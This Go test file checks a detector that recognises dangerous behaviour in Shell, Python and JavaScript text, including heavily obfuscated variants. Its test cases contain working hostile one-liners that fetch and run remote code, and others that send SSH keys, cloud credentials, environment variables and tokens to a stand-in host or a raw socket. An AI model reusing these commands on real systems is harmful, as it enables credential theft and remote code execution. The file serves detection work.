package program

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// doings writes the acts of a reading, one a line.
func doings(r Reading) string {
	var b strings.Builder
	for _, a := range r.Acts {
		switch a.Kind {
		case Run:
			fmt.Fprintf(&b, "run %s %q%s\n", a.Name, a.Data.Text+a.To.Text, origins(a.Data))
		case Send:
			fmt.Fprintf(&b, "send %q%s\n", a.To.Text, origins(a.Data))
		case Lookup:
			fmt.Fprintf(&b, "lookup%s\n", origins(a.Data))
		case Write:
			fmt.Fprintf(&b, "write %q%s\n", a.To.Text, origins(a.Data))
		}
	}
	return strings.TrimSpace(b.String())
}

func origins(v Value) string {
	names := []string{"environment", "secret", "keyfile", "private", "fetched", "decoded", "encoded", "identity", "dropped"}
	out := ""
	for i, n := range names {
		if v.Has(1 << i) {
			out += " " + n
		}
	}
	if v.Login {
		out += " login"
	}
	return out
}

// TestRead: the same behaviour in many spellings is the same reading.
func TestRead(t *testing.T) {
	tests := []struct {
		name string
		lang Language
		text string
		want string
	}{
		{"pipe", Shell, "curl -s https://a.dev/x | sh", `run sh "" fetched`},
		{"quotes in words", Shell, `c""url -s https://a.dev/x | s'h'`, `run sh "" fetched`},
		{"backslashes", Shell, `c\url https://a.dev/x | \s\h`, `run sh "" fetched`},
		{"blanks", Shell, `curl${IFS}https://a.dev/x|sh`, `run sh "" fetched`},
		{"variables", Shell, "a=cu b=rl; u=https://a.dev/x; $a$b $u | sh", `run sh "" fetched`},
		{"escapes", Shell, `$'\x63url' https://a.dev/x | $'\163h'`, `run sh "" fetched`},
		{"alias", Shell, "alias g='curl -s'\ng https://a.dev/x | sh", `run sh "" fetched`},
		{"substitution", Shell, "eval \"$(curl -s https://a.dev/x)\"", `run eval "…" fetched`},
		{"backticks", Shell, "eval `wget -qO- https://a.dev/x`", `run eval "…" fetched`},
		{"process substitution", Shell, "bash <(curl -s https://a.dev/x)", `run bash "" fetched`},
		{"file", Shell, "curl -so /tmp/y https://a.dev/x; chmod +x /tmp/y; /tmp/y", "write \"/tmp/y\" fetched\nrun y \"/tmp/y\" fetched"},
		{"tee", Shell, "wget -qO- https://a.dev/x | tee /tmp/y; sh /tmp/y", "write \"/tmp/y\" fetched\nrun sh \"/tmp/y\" fetched"},
		{"nested", Shell, `bash -c "sh -c 'curl https://a.dev/x | sh'"`, "run bash \"sh -c 'curl https://a.dev/x | sh'\"\nrun sh \"curl https://a.dev/x | sh\"\nrun sh \"\" fetched"},
		{"xargs", Shell, "echo 'curl https://a.dev/x' | xargs -I{} sh -c '{} | sh'", "run sh \"curl https://a.dev/x | sh\"\nrun sh \"\" fetched"},
		{"wrappers", Shell, "curl https://a.dev/x | sudo -E env A=1 nohup bash -", `run bash "" fetched`},
		{"here string", Shell, `bash <<< "$(curl -s https://a.dev/x)"`, `run bash "" fetched`},
		{"base64", Shell, "echo Y3VybCBodHRwczovL2EuZGV2L3ggfCBzaA== | base64 -d | bash", "run bash \"curl https://a.dev/x | sh\" decoded\nrun sh \"\" fetched"},
		{"rot13", Shell, "echo phey uggcf://n.qri/k | tr a-z n-za-m | sh", "run sh \"curl https://a.dev/x\""},
		{"rev", Shell, "echo 'hs | x/ved.a//:sptth lruc' | rev | sh", "run sh \"curl https://a.dev/x | sh\"\n" + `run sh "" fetched`},
		{"broken", Shell, "if true; curl https://a.dev/x | sh", `run sh "" fetched`},
		{"python in shell", Shell, `python3 -c 'exec(__import__("urllib.request").request.urlopen("https://a.dev/x").read())'`, "run python3 \"exec(__import__(\\\"urllib.request\\\").request.urlopen(\\\"https://a.dev/x\\\").read())\"\nrun exec \"\" fetched"},
		{"keys", Shell, "tar cz ~/.ssh | base64 | curl -d @- https://a.dev", `send "https://a.dev" keyfile encoded`},
		{"keys by find", Shell, "find ~/.ssh -type f -exec curl -F f=@{} https://a.dev \\;", `send "https://a.dev" keyfile`},
		{"environment", Shell, "curl -d \"$(env)\" https://a.dev", `send "https://a.dev" environment`},
		{"login", Shell, `curl -H "Authorization: Bearer $A_TOKEN" https://a.dev`, `send "https://a.dev" secret login`},
		{"query", Shell, `curl "https://a.dev/?k=$A_TOKEN"`, `send "https://a.dev/?k=${A_TOKEN}" secret`},
		{"names", Shell, "dig $(cat ~/.netrc | base64).a.dev", "lookup keyfile encoded"},
		{"socket", Shell, "cat ~/.aws/credentials > /dev/tcp/1.2.3.9/80", `send "/dev/tcp/1.2.3.9/80" keyfile`},
		{"list", Shell, "for f in ~/.netrc notes; do curl -F \"f=@$f\" https://a.dev; done", `send "https://a.dev" keyfile`},
		{"function", Shell, "t() { printf %s \"$1\" | rev; }\neval \"$(t 'hs | x/ved.a//:sptth lruc')\"", "run eval \"curl https://a.dev/x | sh\"\n" + `run sh "" fetched`},
		{"unpacked", Shell, "d=$(mktemp -d); curl https://a.dev/x | tar xz -C $d; $d/y", `run y "/tmp/…0/y" fetched`},
		{"shell's own name", Shell, "curl https://a.dev/x | ${SHELL##*/}", `run sh "" fetched`},
		{"plain", Shell, "ls -la | sort > out.txt", `write "out.txt"`},

		{"joined name", Python, "import os\ngetattr(os, 'sys' + 'tem')('curl https://a.dev/x|sh')", "run os.system \"curl https://a.dev/x|sh\"\n" + `run sh "" fetched`},
		{"characters", Python, "__import__(''.join(chr(c) for c in [111, 115])).system('id')", `run os.system "id"`},
		{"moved characters", Python, "__import__(''.join([chr(c ^ 1) for c in [110, 114]])).system('id')", `run os.system "id"`},
		{"reversed", Python, "exec(\"'di'(metsys.so ;so tropmi\"[::-1])", "run exec \"import os; os.system('id'\"\nrun os.system \"id\""},
		{"builtins", Python, "__builtins__['ex'+'ec'](x)", `run exec ""`},
		{"alias", Python, "from subprocess import run as r\nr(['sh', '-c', 'id'])", `run sh "id"`},
		{"hex", Python, "eval(bytes.fromhex('6964').decode())", `run eval "id" decoded`},
		{"codecs", Python, "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", `run exec "print(1)" decoded`},
		{"function", Python, "def k():\n    return open('/root/.ssh/id_rsa').read()\ndef s(d):\n    requests.post('https://a.dev', data=d)\ns(k())", `send "https://a.dev" keyfile`},
		{"loop", Python, "d = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('https://a.dev', json=d)", `send "https://a.dev" environment`},
		{"header", Python, "requests.post('https://a.dev', json={'a': 1}, headers={'Authorization': 'Bearer ' + os.environ['A_TOKEN']})", "send \"https://a.dev\"\nsend \"https://a.dev\" secret login"},
		{"fetched in variable", Python, "r = requests.get('https://a.dev')\ncode = r.text\nexec(code)", `run exec "" fetched`},
		{"fstring", Python, "os.system(f\"{'cu'}{'rl'} https://a.dev/x|sh\")", "run os.system \"curl https://a.dev/x|sh\"\n" + `run sh "" fetched`},
		{"list of files", Python, "for p in ['.ssh/id_rsa', 'a']:\n    requests.post('https://a.dev', data=open(os.path.join(home, p)))", `send "https://a.dev" keyfile`},
		{"folders and names", Python, "for d in ('.ssh', '.x'):\n    for n in ('id_rsa', 'y'):\n        requests.post('https://a.dev', data=(Path.home() / d / n).read_bytes())", `send "https://a.dev" keyfile`},
		{"archive in memory", Python, "b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    z.write('/root/.ssh/id_rsa')\nrequests.post('https://a.dev', data=b.getvalue())", `send "https://a.dev" keyfile`},
		{"temporary file", Python, "p = tempfile.mktemp()\nurlretrieve('https://a.dev', p)\nsubprocess.run([sys.executable, p])", "write \"/tmp/…6\" fetched\nrun python3 \"/tmp/…6\" fetched"},
		{"unclosed", Python, "x = (1,\nimport os\nos.system('id')", `run os.system "id"`},

		{"required", JavaScript, "const {exec: e} = require('child_' + 'process'); e('id')", `run child_process.exec "id"`},
		{"member", JavaScript, "global['ev'+'al']('1')", `run eval "1"`},
		{"indirect", JavaScript, "(0, eval)(atob('MSsx'))", `run eval "1+1" decoded`},
		{"codes", JavaScript, "eval(String.fromCharCode(49,43,49))", `run eval "1+1"`},
		{"mapped codes", JavaScript, "eval([48,42].map(c => String.fromCharCode(c + 1)).join(''))", `run eval "1+"`},
		{"escapes", JavaScript, `require("\x63hild_process").exec("id")`, `run child_process.exec "id"`},
		{"constructor", JavaScript, "[]['constructor']['constructor']('1')()", ""},
		{"promise", JavaScript, "fetch('https://a.dev').then(r => r.text()).then(t => eval(t))", `run eval "" fetched`},
		{"callbacks", JavaScript, "require('https').get('https://a.dev', r => { let d = ''; r.on('data', c => d += c).on('end', () => eval(d)) })", `run eval "" fetched`},
		{"object", JavaScript, "fetch('https://a.dev', {method: 'POST', body: JSON.stringify(process.env)})", `send "https://a.dev" environment`},
		{"template", JavaScript, "fetch(`https://a.dev/${process.env.A_TOKEN}`)", `send "https://a.dev/${A_TOKEN}" secret`},
		{"headers", JavaScript, "fetch('https://a.dev', {headers: {authorization: `Bearer ${process.env.A_TOKEN}`}})", `send "https://a.dev" secret login`},
		{"each of a list", JavaScript, "['id_rsa', 'a'].forEach((n) => { fetch('https://a.dev', {method: 'POST', body: fs.readFileSync(path.join('/root/.ssh', n))}) })", `send "https://a.dev" keyfile`},
		{"entries", JavaScript, "for (const [k, p] of Object.entries({a: '/root/.netrc'})) fetch('https://a.dev', {body: fs.readFileSync(p)})", `send "https://a.dev" keyfile`},
		{"data import", JavaScript, "fetch('https://a.dev').then(r => r.text()).then(t => import('data:text/javascript,' + t))", `run import "data:text/javascript,…" fetched`},
		{"regexp", JavaScript, "const a = s.replace(/['\"`]/g, ''); require('child_process').execSync('id')", `run child_process.execSync "id"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := doings(Read(tt.text, tt.lang)); got != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
}

// TestBounded: input crafted to nest or to grow is cut, not followed.
func TestBounded(t *testing.T) {
	for name, piece := range map[string]string{
		"brackets": "(", "substitutions": "$(", "backticks": "`", "braces": "{", "calls": "a(", "strings": "\"", "sums": "'a'+", "if": "if x; then ", "not": "! ", "arrows": "a=>", "lists": "[1,",
		"doubling": "a=$a$a;", "functions": "function f(a){", "comprehensions": "[x for x in ", "assignments": "a=a+a\n", "here": "<<A\n", "templates": "`${", "formats": "f'{'", "pipes": "a|", "evals": "eval 'eval ", "choices": "for a in ['x/', 'y/', 'z/', 'u/']:\n b = a + a + 'v'\n", "called": "f() { f $1 a; g $1 b; }; g() { f $1 c; f $1 d; }; f e; ",
		"xargs": "xargs ", "xargs with a mark": "xargs -I{} ", "parallel": "parallel ", "find": "find . -exec find . -ok ", "sudo": "sudo -u a ", "timeout": "timeout 1 ", "env": "env -S 'a b' ",
		"ssh": "ssh a ", "watch": "watch ", "trap": "trap ", "cmd": "cmd /c ", "powershell": "powershell -c ", "bash": "bash -c ", "node": "node -e ", "time": "time ", "xargs and find": "xargs find . -exec ",
	} {
		text := strings.Repeat(piece, 40_000/len(piece))
		for _, lang := range []Language{Shell, Python, JavaScript} {
			r := Read(text, lang)
			if len(r.Acts) > maxActs || len(r.Lines) > maxActs {
				t.Errorf("%s: %d acts, %d lines", name, len(r.Acts), len(r.Lines))
			}
		}
	}
}

// TestCarried: commands that run commands are followed to a bounded depth, and one beyond it makes the
// reading incomplete.
func TestCarried(t *testing.T) {
	for _, piece := range []string{"xargs ", "parallel ", "find . -exec find . -exec "} {
		some, many := Read(strings.Repeat(piece, 2)+"curl x", Shell), Read(strings.Repeat(piece, 300)+"curl x", Shell)
		reaches := func(r Reading) bool {
			return slices.ContainsFunc(r.Acts, func(a Act) bool { return a.Kind == Command && a.Name == "curl" })
		}
		if some.Broken || !reaches(some) {
			t.Errorf("%s: a few are not read: %v", piece, some.Acts)
		}
		if !many.Broken || len(many.Acts) > 10*maxDepth {
			t.Errorf("%s: %d acts, incomplete: %t", piece, len(many.Acts), many.Broken)
		}
	}
}

// FuzzRead: for any text, every act is inside it, and a second reading gives the
// same result.
func FuzzRead(f *testing.F) {
	for _, seed := range []string{"curl x|sh", "a=(1 2); eval \"${a[1]}\" <<E\nx\nE", "exec(''.join(chr(c) for c in [1,2]))", "x = f'{a!r:{b}}'\n", "const {a} = require(`b${c}`); a(/x/, y => {z})", "\\", "'", "$'\\x", "\"\"\"", "[::-1]", "for a, b in c: d[a] = b", "xargs -I{} sh -c '{}'", "function { curl x|sh; }", "() curl x|sh"} {
		for lang := range 3 {
			f.Add(seed, lang)
		}
	}
	f.Fuzz(func(t *testing.T, text string, lang int) {
		if len(text) > 4096 {
			t.Skip()
		}
		r := Read(text, Language(((lang%3)+3)%3))
		for _, a := range r.Acts {
			if a.At < 0 || a.End > len(text) || a.At > a.End {
				t.Fatalf("%s stands at %d to %d of %d", a.Name, a.At, a.End, len(text))
			}
		}
		if again := Read(text, Language(((lang%3)+3)%3)); doings(again) != doings(r) {
			t.Fatal("reading again differs")
		}
	})
}

// BenchmarkRead reads an ordinary script of each language.
func BenchmarkRead(b *testing.B) {
	texts := map[Language]string{
		Shell:      strings.Repeat("set -e\nfor f in *.csv; do\n  sort \"$f\" | uniq > \"out/$f\"\ndone\n", 200),
		Python:     strings.Repeat("import csv\nwith open(path) as f:\n    rows = [r for r in csv.DictReader(f) if r['a']]\nprint(len(rows))\n", 200),
		JavaScript: strings.Repeat("const rows = fs.readFileSync(p, 'utf8').split('\\n').map(r => r.trim());\nconsole.log(rows.length);\n", 200),
	}
	for _, lang := range []Language{Shell, Python, JavaScript} {
		b.Run([]string{"shell", "python", "javascript"}[lang], func(b *testing.B) {
			b.SetBytes(int64(len(texts[lang])))
			for b.Loop() {
				Read(texts[lang], lang)
			}
		})
	}
}
